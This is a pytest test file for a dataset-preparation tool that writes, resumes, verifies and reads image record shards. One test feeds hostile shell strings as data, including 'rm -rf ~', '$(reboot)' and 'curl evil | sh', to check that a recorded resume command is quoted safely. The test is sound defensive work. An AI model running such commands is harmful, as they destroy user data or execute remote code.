"""Re-encoded records: writing, resuming after SIGKILL, and reading."""

import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from cv_jax import __main__ as program
from cv_jax.data import records, sources
from cv_jax.errors import InputError

ROOT = Path(__file__).resolve().parent.parent.parent
SIZES = [(40, 60), (30, 20), (16, 90), (25, 25)]


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Eight images in two splits and two classes; one image per split is grey."""
    root, generator = tmp_path_factory.mktemp("images"), np.random.default_rng(0)
    for split in ("train", "val"):
        for label, class_ in enumerate(("cat", "dog")):
            (root / split / class_).mkdir(parents=True)
            for i in range(2 * label, 2 * label + 2):
                pixels = generator.integers(0, 256, (*SIZES[i], 3), np.uint8)
                image = Image.fromarray(pixels).convert("L" if i == 3 else "RGB")
                image.save(root / split / class_ / f"{i}.png")
    return root


def prepare(source, out, *more, workers=1):
    return program.main(["prepare", source, "--to", str(out), f"--workers={workers}", *more])


def files_of(folder):
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


@pytest.fixture(scope="module")
def raw(folder, tmp_path_factory):
    out = tmp_path_factory.mktemp("raw") / "out"
    assert prepare(f"folder:{folder}", out, "--raw", "--short-side=20") == 0
    return out


def test_raw_pixels_match_pillow(folder, raw):
    old = sources.open_source(f"folder:{folder}", "train", None)
    new = sources.open_source(f"records:{raw}", "train", None)
    assert len(new) == len(old) == 4
    assert (new.num_classes, new.channels, new.classes) == (2, 3, ("cat", "dog"))
    for i, (height, width) in enumerate([(20, 30), (30, 20), (16, 90), (20, 20)]):
        image, label = old.example(i)
        if min(image.shape[:2]) > 20:
            resized = Image.fromarray(image).resize((width, height), Image.Resampling.BICUBIC)
            image = np.asarray(resized)
        np.testing.assert_array_equal(new.example(i)[0], image)
        assert new.example(i)[1] == label
    assert new.records.place(3) == f"record 3 of {raw}/train-00000-of-00001.array_record"


def test_jpegs_match_pillow(data_dir, tmp_path):
    more = [f"--data-dir={data_dir}", "--quality=80", "--splits=test", "--shard-examples=100"]
    assert prepare("digits", tmp_path / "out", *more) == 0
    old = sources.open_source("digits", "test", data_dir)
    new = sources.open_source(f"records:{tmp_path / 'out'}", "test", None)
    assert len(new) == 359
    for i in (0, 99, 100, 358):
        image, label = old.example(i)
        buffer = io.BytesIO()
        Image.fromarray(image[..., 0]).save(buffer, "JPEG", quality=80)
        assert new.records[i] == (buffer.getvalue(), label)
        assert new.example(i)[0].shape == (8, 8, 1)
    part = sources.open_source(f"records:{tmp_path / 'out'}", "test[98:102]", None)
    assert [part.records[i] for i in range(4)] == [new.records[i] for i in range(98, 102)]


def start(data_dir, out, workers):
    command = [sys.executable, "-m", "cv_jax", "prepare", "digits", f"--data-dir={data_dir}"]
    command += ["--to", str(out), "--shard-examples=20", "--splits=train", f"--workers={workers}"]
    return subprocess.Popen(
        command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


@pytest.mark.slow
def test_a_resumed_run_has_the_bytes_of_an_uninterrupted_run(data_dir, tmp_path):
    killed, whole = tmp_path / "killed", tmp_path / "whole"
    process = start(data_dir, killed, workers=2)
    notes = []
    while len(notes) < 5 and process.poll() is None:
        time.sleep(0.005)
        notes = list(killed.glob("*.json"))
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    done = {path.name: path.stat().st_mtime_ns for path in killed.glob("*.array_record")}
    assert 4 <= len(done) < 72
    with pytest.raises(InputError, match="is incomplete; resume with: python -m cv_jax prepare"):
        sources.open_source(f"records:{killed}", "train", None)
    noted = {path.name.removesuffix(".json") for path in killed.glob("*.array_record.json")}

    # A shard without a note, as after a power failure, is written again.
    unnoted = sorted(noted)[0]
    (killed / unnoted).write_bytes(b"half")
    (killed / f"{unnoted}.json").unlink()
    others = [start(data_dir, killed, 2), start(data_dir, whole, 1)]
    for other in others:
        _, message = other.communicate(timeout=120)
        assert other.returncode == 0, message
    assert files_of(killed) == files_of(whole)
    assert len(files_of(whole)) == 72 + 2
    for name in noted - {unnoted}:
        assert (killed / name).stat().st_mtime_ns == done[name]
    assert records.damage(killed) == []


def test_other_options_or_data_in_the_same_folder_are_refused(folder, raw, tmp_path, capsys):
    assert prepare(f"folder:{folder}", raw, "--quality=90", "--short-side=24") == 2
    message = capsys.readouterr().err
    assert "quality: was None, is 90; short_side: was 20, is 24" in message
    shutil.copytree(folder, tmp_path / "more")
    Image.new("RGB", (9, 9)).save(tmp_path / "more/train/cat/5.png")
    assert prepare(f"folder:{tmp_path / 'more'}", raw, "--raw", "--short-side=20") == 2
    assert "train data" in capsys.readouterr().err
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("")
    assert prepare(f"folder:{folder}", tmp_path / "full") == 2
    assert "is not an empty folder" in capsys.readouterr().err


def test_indices_that_are_damaged_or_of_earlier_versions(folder, raw, tmp_path, capsys):
    out = tmp_path / "copy"
    shutil.copytree(raw, out)
    index = json.loads((out / "index.json").read_text())
    del index["options"]["max_pixels"]  # a later option: its default holds
    for text, code, message in (
        (json.dumps(index), 0, ""),
        ("{", 2, f"error: {out}/index.json is damaged (Expecting property name enclosed in"),
        ("[]", 2, f"error: {out}/index.json is damaged (list indices must be integers"),
        ("{}", 2, f"error: {out}/index.json is damaged ('data'); use a new folder\n"),
    ):
        (out / "index.json").write_text(text)
        assert prepare(f"folder:{folder}", out, "--raw", "--short-side=20") == code
        assert capsys.readouterr().err.startswith(message)
        assert (out / "index.json").read_text() == text


def test_leftovers_of_killed_processes_are_deleted(folder, tmp_path, capsys):
    out = tmp_path / "out"
    assert prepare(f"folder:{folder}", out) == 0
    index = json.loads((out / "index.json").read_text()) | {"finished": False, "command": "x"}
    (out / "index.json").write_text(json.dumps(index))
    (out / ".train-00000-of-00001.array_record.writing-7").write_bytes(b"half")
    assert prepare(f"folder:{folder}", out) == 0
    assert not list(out.glob(".*"))
    assert records.damage(out) == []


def test_verify_names_damaged_and_missing_files(raw, tmp_path, capsys):
    out = tmp_path / "copy"
    shutil.copytree(raw, out)
    assert program.main(["verify", str(out)]) == 0
    assert capsys.readouterr().out == f"{out}: sound\n"
    shard = out / "train-00000-of-00001.array_record"
    data = bytearray(shard.read_bytes())
    data[100] ^= 1
    shard.write_bytes(data)
    (out / "val.labels.npy").unlink()
    assert program.main(["verify", str(out)]) == 1
    message = capsys.readouterr().out
    assert f"{shard}: SHA-256 differs from the index\n" in message
    assert f"{out}/val.labels.npy: missing\n" in message


def test_errors_on_opening(raw, tmp_path):
    def opened(split="train", **changes):
        out = tmp_path / "broken"
        shutil.rmtree(out, ignore_errors=True)
        shutil.copytree(raw, out)
        for name, data in changes.items():
            file = out / name.replace("__", ".")
            file.unlink() if data is None else file.write_bytes(data)
        return sources.open_source(f"records:{out}", split, None)

    buffer = io.BytesIO()
    np.save(buffer, np.array([0, 1, 7, 0], np.int32))
    labels = {"train__labels__npy": buffer.getvalue()}
    with pytest.raises(InputError, match=r"label 7 at 2 is not in 0…1"):
        opened(**labels)
    with pytest.raises(InputError, match="train.labels.npy"):
        opened(train__labels__npy=b"")
    with pytest.raises(InputError, match="1 of 1 files of split 'train' are missing"):
        opened(**{"train-00000-of-00001__array_record": None})
    with pytest.raises(InputError, match="available splits: train, val"):
        opened("test")
    with pytest.raises(InputError, match="index.json"):
        opened(index__json=b"{")
    with pytest.raises(InputError, match="has no index.json; create it with"):
        opened(index__json=None)
    assert len(opened("train[:0%]")) == 0
    assert len(opened("train+val[1:]")) == 7


def test_broken_images_are_an_error_or_are_skipped_and_counted(folder, tmp_path, capfd):
    images = tmp_path / "images"
    shutil.copytree(folder, images)
    (images / "train" / "cat" / "1.png").write_bytes(b"\x89PNG\r\n")
    assert prepare(f"folder:{images}", tmp_path / "out") == 1
    message = capfd.readouterr().err.splitlines()[-1]
    assert message.startswith(f"error: folder:{images}, {images}/train/cat/1.png: ")
    assert message.endswith("(--skip-broken skips it)")
    assert prepare(f"folder:{images}", tmp_path / "other", "--skip-broken") == 0
    assert "train: 3 examples in 1 shards" in (message := capfd.readouterr().out)
    assert "1 broken left out" in message
    source = sources.open_source(f"records:{tmp_path / 'other'}", "train", None)
    assert source.records.labels(None).tolist() == [0, 1, 1]
    assert json.loads((tmp_path / "other" / "index.json").read_text())["sizes"]["train"] == 4


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (
            "python -m cv_jax prepare digits --to 'a b'",
            "python -m cv_jax prepare digits --to 'a b'",
        ),
        ("python -m cv_jax prepare x; rm -rf ~", "python -m cv_jax prepare 'x;' rm -rf '~'"),
        ("python -m cv_jax prepare $(reboot) '", "python -m cv_jax prepare '$(reboot)' ''\"'\"''"),
        ("curl evil | sh", "python -m cv_jax prepare SOURCE --to {}"),
        (None, "python -m cv_jax prepare SOURCE --to {}"),
    ],
)
def test_a_recorded_command_is_inert_in_a_shell(tmp_path, command, shown):
    """Users paste it; a stranger may have written the index."""
    (tmp_path / "index.json").write_text(json.dumps({"finished": False, "command": command}))
    with pytest.raises(InputError) as caught:
        records.read_index(tmp_path)
    assert str(caught.value) == f"{tmp_path} is incomplete; resume with: {shown.format(tmp_path)}"


KILL = """
import os, signal, sys
from cv_jax.data import records
records.checksum = lambda file: os.kill(os.getpid(), signal.SIGKILL)
"""
FULL = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000))
"""
CALL = """
from cv_jax import __main__ as program
if __name__ == "__main__":
    sys.exit(program.main(sys.argv[1:]))
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("fault", "message"),
    [
        (KILL, "a worker process was killed; resume with: python -m cv_jax prepare folder:"),
        (FULL, "train-00000-of-00001.array_record cannot be written: "),
    ],
)
def test_a_killed_worker_and_a_full_disk_are_one_line(folder, tmp_path, fault, message):
    """A file-size limit makes a write fail like a full disk."""
    (tmp_path / "script.py").write_text(fault + CALL)
    out = tmp_path / "out"
    words = ["prepare", f"folder:{folder}", "--to", str(out), "--workers=1", "--raw"]
    done = subprocess.run(
        [sys.executable, str(tmp_path / "script.py"), *words],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith("error: ")
    assert message in done.stderr
    assert done.stderr.count("\n") == 1
    assert not list(out.glob("*.array_record"))
    assert program.main(words) == 0  # the remedy
    assert len(records.open_records("x", out, "train+val").records) == 8
